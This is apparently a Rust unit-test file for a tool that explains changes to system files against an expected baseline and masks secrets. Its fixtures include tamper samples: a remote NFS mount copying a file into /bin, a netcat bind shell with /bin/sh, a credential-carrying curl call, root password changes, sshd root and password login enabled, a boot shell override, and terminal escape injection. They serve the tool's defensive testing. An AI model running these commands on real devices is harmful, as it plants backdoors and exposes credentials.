//! What is told of changed texts.

use super::*;

/// What is told of `/etc/init.d/x`, by the baseline alone, and with the expected text at hand.
fn told_at(path: &str, old: &str, new: &[u8]) -> [Vec<String>; 2] {
    let row = TextRow::of(path.as_bytes(), old.as_bytes(), Digest::of(old.as_bytes())).unwrap();
    let told = |old| explain(&row, path.as_bytes(), new, old);
    [told(None), told(Some(old.as_bytes()))]
}

const SCRIPT: &str = "#!/bin/sh\nexport A=1\nmount -a\nhttpd -p 80\nsync\n";

#[test]
fn a_command_that_is_new() {
    let new = SCRIPT.replace(
        "sync\n",
        "mount -t nfs 10.9.8.7:/x /mnt && cp /mnt/y /bin\nsync\n",
    );
    for told in told_at("/etc/init.d/x", SCRIPT, new.as_bytes()) {
        assert_eq!(
            told,
            [
                "new command in line 5: mount -t nfs 10.9.8.7:/x /mnt",
                "new command in line 5: cp /mnt/y /bin",
                "without these lines it is the expected text, to the byte"
            ]
        );
    }
}

#[test]
fn lines_that_are_gone() {
    let new = SCRIPT.replace("mount -a\nhttpd -p 80\n", "");
    let [alone, beside] = told_at("/etc/init.d/x", SCRIPT, new.as_bytes());
    assert_eq!(
        alone,
        ["2 lines of the expected text are gone after line 2"]
    );
    assert_eq!(
        beside,
        [
            "line 3 of the expected text is gone: mount -a",
            "line 4 of the expected text is gone: httpd -p 80"
        ]
    );
}

#[test]
fn a_setting_with_another_value() {
    let old = "Port 22\nPermitRootLogin no\nPasswordAuthentication no\n";
    let new = "Port 22\nPermitRootLogin yes\nPasswordAuthentication yes\n";
    let [alone, beside] = told_at("/etc/sshd_config", old, new.as_bytes());
    assert_eq!(
        alone,
        [
            "new line 2: PermitRootLogin yes",
            "new line 3: PasswordAuthentication yes",
            "2 lines of the expected text are gone after line 1"
        ]
    );
    assert_eq!(
        beside,
        [
            "line 2: PermitRootLogin is yes instead of no",
            "line 3: PasswordAuthentication is yes instead of no"
        ]
    );
}

#[test]
fn a_line_that_went_elsewhere() {
    let new = SCRIPT
        .replace("export A=1\n", "")
        .replace("sync\n", "sync\nexport A=1\n");
    for told in told_at("/etc/init.d/x", SCRIPT, new.as_bytes()) {
        assert_eq!(
            told,
            ["line 5 stands elsewhere in the expected text: export A=1"]
        );
    }
}

#[test]
fn ends_of_lines() {
    let [told, _] = told_at("/etc/x", SCRIPT, SCRIPT.replace('\n', "\r\n").as_bytes());
    assert_eq!(told, ["its lines end in another way (CR LF or LF)"]);
    let [told, _] = told_at("/etc/x", SCRIPT, SCRIPT.trim_end().as_bytes());
    assert_eq!(told, ["it differs in whether its last line has an end"]);
}

/// No secret is told, in whatever line it stands.
#[test]
fn secrets_are_not_told() {
    let old = "#!/bin/sh\nssid=a\npsk=erstens1\nPW=vorher12\n";
    let new = "#!/bin/sh\nssid=b\npsk=geheim12\nPW=geheim34\necho $PW > /dev/ttyS1\ncurl -u a:geheim56 http://h/\n\
               echo root:geheim78 | chpasswd\nchpasswd <<E\nroot:geheim90\nE\nlogger geheim12\n";
    for told in told_at("/etc/x.sh", old, new.as_bytes()) {
        let all = told.join("\n");
        for secret in ["geheim", "erstens", "vorher"] {
            assert!(!all.contains(secret), "{all}");
        }
        assert!(all.contains("new command in line 6: curl -u *** "), "{all}");
        assert!(all.contains("chpasswd ***"), "{all}");
    }
    let [told, _] = told_at("/etc/x", "psk=one\n", b"psk=two\n");
    assert!(told[0].starts_with("it differs in what marks"), "{told:?}");
    assert!(
        explain(
            &TextRow::of(b"/etc/x", b"a", Digest::of(b"a")).unwrap(),
            b"/etc/shadow",
            b"root:geheim",
            None
        )
        .is_empty()
    );
}

#[test]
fn nothing_drives_a_terminal() {
    let new = format!("{SCRIPT}# \x1b]0;x\x07\x1b[2J\u{202e}\n");
    for told in told_at("/etc/x", SCRIPT, new.as_bytes()) {
        let all = told.concat();
        assert!(all.contains("new line 6: # \\x1b]0;x"), "{all}");
        assert!(!all.contains('\x1b') && !all.contains('\u{202e}'));
    }
}

#[test]
fn what_is_no_text_or_has_too_many_lines_is_said_so() {
    let [told, _] = told_at("/etc/x", SCRIPT, b"a\n\0\x01\xff\n");
    assert_eq!(told, ["it was text and is none now"]);
    let [told, _] = told_at("/etc/x", SCRIPT, &b"x\n".repeat(1_000_000));
    assert_eq!(
        told,
        ["it has 1000000 lines instead of 5: so many are not told one by one"]
    );
    // As many as are told at all, none of them known.
    let old = "a\n".repeat(4096);
    let numbers: Vec<String> = (0..MOST_LINES).map(|line| line.to_string()).collect();
    let new = numbers.join("\n");
    let [told, _] = told_at("/etc/x", &old, new.as_bytes());
    assert!(told.len() < 2 * MOST + 4);
}

#[test]
fn what_a_python_program_runs() {
    let old = "import os\nprint(1)\n";
    let new = "import os\nos.system('nc -l -p 99 -e /bin/sh')\nprint(1)\n";
    for told in told_at("/usr/lib/x.py", old, new.as_bytes()) {
        assert_eq!(told[0], "new command in line 2: nc -l -p 99 -e /bin/sh");
    }
}

#[test]
fn the_value_of_a_variable() {
    let (old, new) = (
        &b"nand read 80000; bootm 80000"[..],
        &b"setenv bootargs init=/bin/sh; bootm 80000"[..],
    );
    let row = TextRow::of_value(b"bootcmd", old, Digest::of(old)).unwrap();
    assert_eq!(
        explain_value(Some(&row), b"bootcmd", new, None),
        [
            "it is now: setenv bootargs init=/bin/sh; bootm 80000",
            "new in it: setenv bootargs init=/bin/sh",
            "3 words of the expected value gone"
        ]
    );
    assert_eq!(
        explain_value(None, b"wifi_psk", b"geheim12", Some(b"erstens1")),
        ["it is now: ***", "it was: ***"]
    );
}
